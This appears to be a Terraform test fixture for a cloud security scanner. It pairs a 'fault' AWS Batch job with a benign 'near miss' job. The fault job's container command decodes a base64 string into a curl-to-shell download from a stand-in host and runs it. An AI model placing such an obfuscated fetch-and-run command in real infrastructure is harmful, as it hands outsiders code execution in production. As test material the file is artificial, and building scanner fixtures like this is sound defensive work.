# A batch job decodes a hidden program and runs it.
# Source: https://attack.mitre.org/techniques/T1027/
# Fault at: aws_batch_job_definition.batcmd_fault
# Near miss at: aws_batch_job_definition.batcmd_near

resource "aws_iam_role" "batcmd_role" {
  name               = "shop-prod-batcmd-role"
  assume_role_policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "sts:AssumeRole", Principal = { Service = "ecs-tasks.amazonaws.com" } }] })
}

resource "aws_batch_job_definition" "batcmd_fault" {
  name                  = "shop-prod-batcmd-fault"
  type                  = "container"
  platform_capabilities = ["FARGATE"]

  container_properties = jsonencode({
    image                  = "public.ecr.aws/docker/library/python:3.13.1"
    command                = ["sh", "-c", "echo Y3VybCAtcyBodHRwczovL2dldC5leGFtcGxlLm5ldC94IHwgc2g= | base64 -d | sh"]
    executionRoleArn       = aws_iam_role.batcmd_role.arn
    user                   = "1000"
    readonlyRootFilesystem = true
    resourceRequirements   = [{ type = "VCPU", value = "0.25" }, { type = "MEMORY", value = "512" }]
  })
}

resource "aws_batch_job_definition" "batcmd_near" {
  name                  = "shop-prod-batcmd-near"
  type                  = "container"
  platform_capabilities = ["FARGATE"]

  container_properties = jsonencode({
    image                  = "public.ecr.aws/docker/library/python:3.13.1"
    command                = ["python", "-m", "shop.export", "--format", "base64", "--table", "Ref::table"]
    user                   = "1000"
    readonlyRootFilesystem = true
    resourceRequirements   = [{ type = "VCPU", value = "0.25" }, { type = "MEMORY", value = "512" }]
  })
}
